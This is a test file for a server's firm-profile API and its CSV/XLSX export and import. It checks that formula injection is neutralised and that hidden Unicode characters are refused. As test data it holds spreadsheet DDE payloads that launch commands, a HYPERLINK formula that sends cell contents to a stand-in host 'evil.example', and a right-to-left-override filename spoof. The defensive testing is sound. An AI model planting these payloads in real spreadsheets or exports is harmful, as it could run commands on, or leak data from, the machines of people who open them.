import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KIND_COLUMNS, LIST_JOIN } from '../../../server/src/import/columns';
import { startTestServer, type TestServer } from '../harness';
import { csvRecords, download, templateCsv, upload } from '../import/helpers';
import { gqlAs, gqlDataAs, tokenFor } from '../roles';

/**
 * Hostile text in firm profiles (issue 14, rows 2 and 11), over HTTP against the real server:
 * formula payloads a firm types into its own profile come out of every export behind an apostrophe
 * and import back unchanged; invisible characters, text direction controls and control characters
 * are refused by the API and the importer alike, naming the field; names are stored in NFC.
 */

let server: TestServer;
let aofang: string;
let admin: string;

beforeAll(async () => {
  server = await startTestServer();
  aofang = await tokenFor(server.store, { role: 'FIRM', firmId: 'aofang' });
  admin = await tokenFor(server.store, { role: 'ADMIN' });
}, 60_000);
afterAll(() => server?.close());

interface Profile {
  id: string;
  nameZh: string;
  nameEn: string;
  shortNameZh: string | null;
  shortNameEn: string | null;
  district: { code: string };
  creditCode: string | null;
  isChainLeader: boolean;
  isOem: boolean;
  isRecycler: boolean;
  outputCny: number | null;
  outputYear: number | null;
  yieldRate: number | null;
  certifications: string[];
  lat: number | null;
  lng: number | null;
  notes: string | null;
  source: string | null;
  updatedAt: string | null;
}

const PROFILE = `firm(id: "aofang") { id nameZh nameEn shortNameZh shortNameEn district { code } creditCode isChainLeader isOem
  isRecycler outputCny outputYear yieldRate certifications lat lng notes source updatedAt }`;

async function profile(): Promise<Profile> {
  return (await gqlDataAs<{ firm: Profile }>(server.url, admin, `{ ${PROFILE} }`)).firm;
}

async function auditCount(): Promise<number> {
  const data = await gqlDataAs<{ auditEvents: { totalCount: number } }>(server.url, admin, '{ auditEvents(entityId: "aofang") { totalCount } }');
  return data.auditEvents.totalCount;
}

/** The profile as the firm's own form saves it, with `patch` typed over it. */
function formInput(p: Profile, patch: Partial<Record<keyof Profile, unknown>>): Record<string, unknown> {
  const { district, source: _source, updatedAt: _updatedAt, ...fields } = p;
  return { ...fields, districtCode: district.code, ...patch };
}

const UPSERT = 'mutation U($input: FirmInput!) { upsertFirm(input: $input) { id nameEn notes } }';

const saveAsFirm = (input: Record<string, unknown>) =>
  gqlAs<{ upsertFirm: { id: string; nameEn: string; notes: string | null } }>(server.url, aofang, UPSERT, { input });

/** What a spreadsheet would run: text starting with =, +, -, @, a tab or a carriage return. */
const FORMULA_START = /^[=+\-@\t\r]/;

const TEXT_COLUMNS = KIND_COLUMNS.firms.filter((c) => c.type === 'string' || c.type === 'list').map((c) => c.key);

describe('formula payloads in a firm profile', () => {
  const payloads = {
    nameEn: "=cmd|' /C calc'!A0",
    shortNameEn: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    shortNameZh: '-2+3+cmd|\' /C calc\'!A0',
    notes: '=HYPERLINK("http://evil.example/?leak="&A1,"click here")',
    certifications: ['+1+1', 'IATF 16949'],
  };
  const expected: Record<string, string> = {
    nameEn: `'${payloads.nameEn}`,
    shortNameEn: `'${payloads.shortNameEn}`,
    shortNameZh: `'${payloads.shortNameZh}`,
    notes: `'${payloads.notes}`,
    certifications: `'${payloads.certifications.join(LIST_JOIN)}`,
  };

  it('are neutralised in the CSV and XLSX exports, which import back changing nothing', async () => {
    const saved = await saveAsFirm(formInput(await profile(), payloads));
    expect(saved.errors).toBeUndefined();
    const before = await profile();
    expect(before).toMatchObject(payloads);

    const csv = await download(server.url, '/api/export/firms?format=csv', aofang);
    expect(csv.status).toBe(200);
    const records = csvRecords(csv.body);
    const row = records.find((r) => r.id === 'aofang');
    expect(row).toMatchObject(expected);
    for (const record of records) {
      for (const key of TEXT_COLUMNS) expect(FORMULA_START.test(record[key] ?? ''), `${record.id}.${key}: ${record[key]}`).toBe(false);
    }

    const xlsx = await download(server.url, '/api/export/firms?format=xlsx', aofang);
    expect(xlsx.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(xlsx.body).buffer as ArrayBuffer);
    const sheet = book.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    const keys = Array.from((sheet.getRow(2).values as unknown[]).slice(1), String);
    const sheetRows: Record<string, unknown>[] = [];
    sheet.eachRow((r, n) => {
      // row.values is sparse and 1-based: empty cells are holes.
      if (n > 2) sheetRows.push(Object.fromEntries(keys.map((key, i) => [key, (r.values as unknown[])[i + 1] ?? null])));
    });
    expect(sheetRows.find((r) => r.id === 'aofang')).toMatchObject(expected);
    for (const record of sheetRows) {
      for (const key of TEXT_COLUMNS) {
        const value = record[key];
        if (typeof value === 'string') expect(FORMULA_START.test(value), `${String(record.id)}.${key}: ${value}`).toBe(false);
      }
    }

    // Both files back in: the dry run finds nothing wrong, and committing them changes nothing.
    const audited = await auditCount();
    for (const [format, body] of [['csv', csv.body], ['xlsx', xlsx.body]] as const) {
      const dry = await upload(server.url, 'firms', body, { token: admin, fileName: `firms.${format}` });
      expect(dry.answer.errors, format).toEqual([]);
      expect(dry.answer).toMatchObject({ ok: true, created: 0, updated: records.length });
      const commit = await upload(server.url, 'firms', body, { token: admin, fileName: `firms.${format}`, mode: 'commit' });
      expect(commit.status, format).toBe(200);
      expect(await profile(), format).toEqual(before);
    }
    expect(await auditCount()).toBe(audited);
  });

  it('are neutralised in the district target list too', async () => {
    const investment = await tokenFor(server.store, { role: 'INVESTMENT', districtCode: '500117' });
    const input = { name: '=1+1 示例企业', districtCode: '500117', segmentCode: 'AL_EXTRUSION', owner: '+86 138 0000 0000', notes: '@SUM(A1:A9)' };
    const created = await gqlAs(server.url, investment, 'mutation T($input: TargetInput!) { upsertTarget(input: $input) { id } }', { input });
    expect(created.errors).toBeUndefined();
    const year = Number(new Date(Date.now() + 8 * 3600_000).toISOString().slice(0, 4));
    const res = await download(server.url, `/api/targets/export?districtCode=500117&year=${year}`, investment);
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(res.body).buffer as ArrayBuffer);
    const sheet = book.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    const rows: unknown[][] = [];
    sheet.eachRow((r, n) => {
      if (n > 3) rows.push(Array.from((r.values as unknown[]).slice(1)));
    });
    const row = rows.find((r) => String(r[1]).includes('示例企业') && String(r[1]).includes('=1+1'));
    expect(row?.[1]).toBe("'=1+1 示例企业");
    expect(row?.[8]).toBe("'+86 138 0000 0000");
    expect(row?.[9]).toBe("'@SUM(A1:A9)");
    for (const r of rows) for (const cell of r) if (typeof cell === 'string') expect(FORMULA_START.test(cell), cell).toBe(false);
  });
});

describe('hidden characters in names and free text', () => {
  it.each([
    ['nameZh', '重庆奥方\u200b汽车零部件有限公司', /invisible characters \(U\+200B at character 5\)/],
    ['nameEn', 'Aofang\ufeff', /invisible characters \(U\+FEFF at character 7\)/],
    ['nameEn', 'Aofang\u202egnp.exe', /text direction controls \(U\+202E/],
    ['shortNameEn', '\u200fAofang', /text direction controls \(U\+200F/],
    ['shortNameZh', '奥方\u2066汽车\u2069', /text direction controls \(U\+2066/],
    ['notes', 'before\u0000after', /control characters \(U\+0000/],
    ['notes', 'clear screen \u001b[2J', /control characters \(U\+001B/],
    ['notes', 'C1 \u009b control', /control characters \(U\+009B/],
    ['shortNameZh', '奥方\n汽车', /must be a single line/],
  ])('upsertFirm refuses %s %j, naming the field, and changes nothing', async (field, value, message) => {
    const before = await profile();
    const res = await saveAsFirm(formInput(before, { [field]: value }));
    expect(res.data?.upsertFirm ?? null).toBeNull();
    const error = res.errors?.[0];
    expect(error?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: `input.${field}` });
    expect(error?.message).toMatch(message);
    expect(await profile()).toEqual(before);
  });

  it('keeps line breaks in notes and stores names in NFC', async () => {
    const before = await profile();
    const res = await saveAsFirm(formInput(before, { nameEn: 'Chongqing Aofang Cafe\u0301 Parts', notes: '第一行\r\n第二行\tend' }));
    expect(res.errors).toBeUndefined();
    const after = await profile();
    expect(after.nameEn).toBe('Chongqing Aofang Caf\u00e9 Parts');
    expect(after.nameEn.normalize('NFC')).toBe(after.nameEn);
    expect(after.notes).toBe('第一行\n第二行\tend');
  });

  const firmRow = (id: string, patch: Record<string, string>) => ({ id, nameZh: `单元格测试${id}`, nameEn: `Cells test ${id}`, districtCode: '500120', ...patch });

  it('the firms import refuses the same text with a row and column error, and commits nothing', async () => {
    const rows = [
      firmRow('cells-1', { nameZh: '重庆奥方\u200b汽车零部件有限公司' }),
      firmRow('cells-2', { nameEn: 'Aofang\ufeff' }),
      firmRow('cells-3', { nameEn: 'Aofang\u202egnp.exe' }),
      firmRow('cells-4', { shortNameZh: '奥方\u2066汽车\u2069' }),
      firmRow('cells-5', { notes: 'DEL \u007f here' }),
      firmRow('cells-6', { notes: 'C1 \u0085 here' }),
      firmRow('cells-7', { nameEn: 'Cafe\u0301 Parts', notes: 'two\nlines' }),
    ];
    const csv = templateCsv('firms', rows);
    const dry = await upload(server.url, 'firms', csv, { token: admin });
    expect(dry.answer.ok).toBe(false);
    expect(dry.answer.errors.map((e) => [e.row, e.column])).toEqual([
      [3, 'nameZh'],
      [4, 'nameEn'],
      [5, 'nameEn'],
      [6, 'shortNameZh'],
      [7, 'notes'],
      [8, 'notes'],
    ]);
    expect(dry.answer.errors.map((e) => e.message)).toEqual([
      'must not contain invisible characters (U+200B at character 5)',
      'must not contain invisible characters (U+FEFF at character 7)',
      'must not contain text direction controls (U+202E at character 7)',
      'must not contain text direction controls (U+2066 at character 3)',
      'must not contain control characters (U+007F at character 5)',
      'must not contain control characters (U+0085 at character 4)',
    ]);
    const zh = await upload(server.url, 'firms', csv, { token: admin, lang: 'zh' });
    expect(zh.answer.errors[0]).toMatchObject({ row: 3, column: '企业名称', message: '不能包含不可见字符（第 5 个字符 U+200B）' });

    const commit = await upload(server.url, 'firms', csv, { token: admin, mode: 'commit' });
    expect(commit.status).toBe(422);
    const found = await gqlDataAs<{ firms: { totalCount: number } }>(server.url, admin, '{ firms(filter: { search: "Cells test" }) { totalCount } }');
    expect(found.firms.totalCount).toBe(0);
  });

  it('a NUL past the part of a file read to tell text from binary is a row error too', async () => {
    // The first 64 KiB of a CSV are checked for control characters as a sign of a binary file
    // (decode.ts); blank lines, which the importer skips, carry the row past them.
    const head = templateCsv('firms', []);
    const row = templateCsv('firms', [firmRow('cells-nul', { notes: 'before\u0000after' })]).split('\r\n')[2];
    const csv = `${head}${'\r\n'.repeat(40_000)}${row}\r\n`;
    const dry = await upload(server.url, 'firms', csv, { token: admin });
    expect(dry.status).toBe(200);
    expect(dry.answer.errors).toEqual([
      { row: 40_003, column: 'notes', value: 'before\u0000after', message: 'must not contain control characters (U+0000 at character 7)' },
    ]);
  });
});
